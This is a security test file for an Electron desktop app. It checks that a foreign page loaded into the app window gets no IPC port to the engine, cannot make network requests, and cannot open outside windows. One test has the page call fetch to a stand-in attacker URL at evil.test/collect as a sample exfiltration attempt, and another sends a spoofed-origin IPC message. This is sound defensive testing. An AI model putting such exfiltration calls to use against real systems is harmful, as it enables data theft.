import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Desktop, startDesktop } from './desktop.ts'

// Every wall before these is taken away: the shell itself loads a page that is not ours into our window, with our preload, and
// a frame's message is put where Electron would put it.
let desktop: Desktop
let page: Page
let portsSent: number

beforeAll(async () => {
  desktop = startDesktop({ args: ['--demo', '--port', '0', '--vault', 'memory'] })
  page = await desktop.runningPage()
  await desktop.evaluate(({ BrowserWindow, ipcMain }) => {
    const [window] = BrowserWindow.getAllWindows()
    const parent = { origin: 'app://bundle', parent: null }
    for (const senderFrame of [{ origin: 'https://evil.test', parent }, { origin: 'app://bundle', parent }, null]) {
      ipcMain.emit('waybill:request-port', { sender: window?.webContents, senderFrame })
    }
  })
  portsSent = desktop.recorded.filter(({ type }) => type === 'sent').length
  await desktop.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows()[0]?.loadURL('data:text/html,<title>foreign</title>'),
  )
  await page.waitForURL(/^data:/)
})
afterAll(() => desktop.dispose())

test('a foreign page gets no way to the engine', async () => {
  await page.evaluate(() => Reflect.get(window, 'waybillShell').requestPort())
  await desktop.saw('ipc', ({ origin }) => origin === 'null')
  // The shell answers at once or never: whatever it had sent would have been told before this.
  await desktop.evaluate(({ app }) => app.isReady())

  expect(desktop.recorded.filter((entry) => entry.type === 'sent' && entry.origin === 'null')).toEqual([])
})

test('a foreign page can load nothing, although no policy of ours came with it', async () => {
  await page.evaluate(() => fetch('https://evil.test/collect', { mode: 'no-cors' }).catch(() => {}))

  expect(await desktop.saw('request-refused')).toMatchObject({ url: 'https://evil.test/collect', by: 'session' })
})

test('a frame inside of our own page, whatever it shows, gets none either', () => {
  // One: the app's own.
  expect(portsSent).toBe(1)
})

test('a foreign page can’t send anybody’s browser anywhere, not even where our own page may', async () => {
  await page.evaluate(() => window.open('https://mistral.ai/terms'))

  expect(await desktop.saw('window-open', ({ url }) => url === 'https://mistral.ai/terms')).toMatchObject({
    action: 'deny',
  })
  expect(desktop.recorded.filter(({ type }) => type === 'opened-outside')).toEqual([])
})
